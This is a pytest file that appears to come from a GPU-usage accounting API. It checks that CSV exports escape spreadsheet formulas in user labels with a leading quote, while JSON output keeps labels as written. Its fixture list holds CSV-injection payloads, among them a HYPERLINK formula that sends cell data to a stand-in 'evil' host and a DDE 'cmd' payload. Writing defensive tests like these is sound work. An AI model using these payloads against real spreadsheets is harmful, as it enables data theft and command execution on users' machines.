"""Hostile text on its way out of the API (issue 38 row 6; docs/security.md, "Output"): a label
is a user's own Comment, so a chargeback or usage CSV must not hand a finance team's
spreadsheet a formula; railgang's own numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from tests.daemon.api.conftest import Api
from tests.daemon.api.seed import sacct_segments, seed_ledger
from tests.daemon.api.test_usage import T, _q

FORMULAS = ["=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "-2+3+cmd|' /C calc'!A0",
            "+1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture(params=FORMULAS)
def hostile(api: Api, request: pytest.FixtureRequest) -> tuple[Api, str]:
    value = request.param
    segments = [dataclasses.replace(s, labels=(("experiment", value),)) if s.labels else s
                for s in sacct_segments()]
    seed_ledger(api.engine, segments)
    return api, value


@pytest.mark.parametrize("path", ["chargeback", "usage", "utilisation"])
def test_a_label_that_is_a_formula_is_text_in_the_csv(hostile: tuple[Api, str], path: str) -> None:
    api, value = hostile
    res = api.client.get(f"/v1/{path}?{_q(T, T + 22, '&group_by=label&label=experiment')}"
                         "&format=csv", headers=api.admin)
    assert res.status_code == 200, res.text
    [row] = list(csv.DictReader(io.StringIO(res.text, newline="")))
    assert row["label"] == "'" + value  # OWASP: a leading quote makes the sheet show it as text
    assert float(row["gpu_seconds"]) == 6  # railgang's numbers are left as numbers


def test_the_json_answer_keeps_the_label_as_written(hostile: tuple[Api, str]) -> None:
    api, value = hostile  # JSON is data, not a sheet: escaping it there would change the value
    items = api.client.get(f"/v1/usage?{_q(T, T + 22, '&group_by=label&label=experiment')}",
                           headers=api.admin).json()["items"]
    assert [r["label"] for r in items] == [value]
